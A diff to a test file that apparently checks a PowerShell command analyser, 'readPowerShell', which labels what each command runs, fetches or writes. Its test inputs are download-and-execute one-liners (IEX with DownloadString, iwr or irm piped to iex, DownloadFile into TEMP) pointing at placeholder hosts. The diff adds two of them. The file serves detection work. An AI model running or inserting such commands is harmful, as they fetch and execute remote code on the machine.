@@ -115,6 +115,8 @@ describe("readPowerShell: what runs, comes and goes", () => {
   it.each<[string, string[]]>([
     ["IEX (New-Object Net.WebClient).DownloadString('http://h/x.ps1')", ["runs http://h/x.ps1"]],
     ["iwr -useb http://h/x | iex", ["runs http://h/x"]],
+    ["irm h.example/x.ps1 | iex", ["runs h.example/x.ps1"]],
+    ["iwr h.example:8080 -OutFile C:\\a", ["fetches h.example:8080", "writes C:\\a"]],
     ["$c=(irm 'http://h/x'); & ([scriptblock]::Create($c))", ["runs http://h/x"]],
     [
       "(New-Object System.Net.WebClient).DownloadFile('http://h/x.exe',\"$env:TEMP\\x.exe\")",
